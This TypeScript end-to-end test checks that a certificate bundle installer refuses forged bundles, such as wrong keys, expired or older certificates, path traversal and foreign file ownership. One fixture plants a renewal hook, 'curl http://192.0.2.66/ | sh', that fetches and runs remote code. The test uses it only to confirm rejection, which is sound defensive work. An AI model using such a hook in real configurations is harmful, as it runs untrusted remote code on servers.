import { expect } from 'vitest';
import type { Bundle } from '../../lib/lineage/bundle.ts';
import { renewalConf } from '../support/bundle-conf.ts';
import { FORGERIES } from '../support/bundle-forgeries.ts';
import { makeBundle, withFiles } from '../support/bundle-maker.ts';
import type { TestCa } from '../support/certificates.ts';
import {
  installerSays,
  journalCursor,
  placeBundle,
  resultOn,
  treeHash,
  type Placing,
  testWithAuthority,
} from '../support/e2e-bundle.ts';
import { expectDelivered } from '../support/e2e-bundle-left.ts';
import { threeNodes } from '../support/e2e-cluster.ts';

const LINEAGE = 'forged.example.test';
const HOUR_MS = 3_600_000;
const hoursAgo = (hours: number) => new Date(Date.now() - hours * HOUR_MS);

const test = testWithAuthority();

/** Of the forgeries that the installer's own tests go through, one of each sort. */
const TAKEN: ReadonlySet<string> = new Set([
  'a path that no bundle has',
  'a link for a file',
  'a link for the whole',
  '`..` in a path of the manifest',
  'a lineage that leads up',
  'a wrong checksum',
  'a file of 1 GB',
]);

interface Case {
  readonly title: string;
  readonly reason: RegExp;
  readonly bundle: (authority: TestCa, configDir: string) => Promise<Bundle>;
  readonly placing?: Placing;
}

async function bundleOf(
  authority: TestCa,
  configDir: string,
  notBefore: Date,
  options: { notAfter?: Date; conf?: string; number?: number } = {},
): Promise<Bundle> {
  const { notAfter, ...rest } = options;
  const dates = { notBefore, ...(notAfter ? { notAfter } : {}) };
  const issued = await authority.issue([LINEAGE], dates);
  return makeBundle(issued, { configDir, lineage: LINEAGE, number: 2, ...rest });
}

const newer: Case['bundle'] = async (authority, configDir) =>
  await bundleOf(authority, configDir, hoursAgo(1));

const foreignHook: Case['bundle'] = async (authority, configDir) => {
  const params = ['manual_auth_hook = curl http://192.0.2.66/ | sh', 'renew_hook = certbot-ha-deploy'];
  const conf = renewalConf({ configDir, lineage: LINEAGE, params });
  return await bundleOf(authority, configDir, hoursAgo(1), { conf });
};

const CASES: readonly Case[] = [
  {
    title: 'the key of another certificate',
    reason: /privkey\.pem: not the key of cert\.pem/,
    bundle: async (authority, configDir) =>
      withFiles(await newer(authority, configDir), {
        'privkey.pem': (await authority.issue([LINEAGE])).key,
      }),
  },
  {
    title: 'a certificate that has expired',
    reason: /cert\.pem: expired at/,
    bundle: async (authority, configDir) =>
      await bundleOf(authority, configDir, hoursAgo(3), { notAfter: hoursAgo(1) }),
  },
  {
    title: 'an older certificate',
    reason: /forged\.example\.test: older than what is installed/,
    bundle: async (authority, configDir) => await bundleOf(authority, configDir, hoursAgo(9)),
  },
  {
    title: 'a hook of a stranger',
    reason: /manual_auth_hook: a command that is neither certbot-ha's nor/,
    bundle: foreignHook,
  },
  {
    title: 'a file of another user',
    reason: /cert\.pem: belongs to user 0/,
    bundle: newer,
    placing: { onNode: 'chown root cert.pem' },
  },
  ...FORGERIES.filter(([title]) => TAKEN.has(title)).map(([title, reason, spoil]): Case => ({
    title,
    reason,
    bundle: newer,
    placing: { spoil },
  })),
];

test('an inbox takes a bundle, then none that is forged, then a good one again', async ({
  lab,
  authority,
  needsHosts,
}) => {
  needsHosts('a path unit');
  expect(CASES).toHaveLength(5 + TAKEN.size);
  const [, web2] = await threeNodes(lab);
  const { letsencrypt } = web2.paths;
  const base = await bundleOf(authority, letsencrypt, hoursAgo(6), { number: 1 });
  await placeBundle(web2, base);
  expect(await resultOn(web2, base)).toMatchObject({ state: 'installed', lineage: LINEAGE });
  const before = await treeHash(web2);

  for (const { title, reason, bundle: make, placing } of CASES) {
    const bundle = await make(authority, letsencrypt);
    const cursor = await journalCursor(web2);
    await placeBundle(web2, bundle, placing);
    const { state, messages } = await resultOn(web2, bundle);
    expect({ title, state, messages }).toEqual({
      title,
      state: 'refused',
      messages: expect.arrayContaining([expect.stringMatching(reason)]) as readonly string[],
    });
    const said = await installerSays(web2, cursor);
    const inJournal = messages.map((message) => expect.stringContaining(message) as string);
    expect({ title, said }).toEqual({ title, said: expect.arrayContaining(inJournal) as readonly string[] });
    expect({ title, tree: await treeHash(web2) }).toEqual({ title, tree: before });
    await expectDelivered([web2]);
  }

  const good = await bundleOf(authority, letsencrypt, hoursAgo(0.5));
  await placeBundle(web2, good);
  expect(await resultOn(web2, good)).toMatchObject({ state: 'installed' });
  const installed = await web2.readFile(`${letsencrypt}/live/${LINEAGE}/cert.pem`);
  expect(installed).toBe(good.files['cert.pem']);
  expect(await web2.check(['certbot', 'certificates', '--cert-name', LINEAGE])).toContain('VALID');
  await expectDelivered(lab.nodes);
});
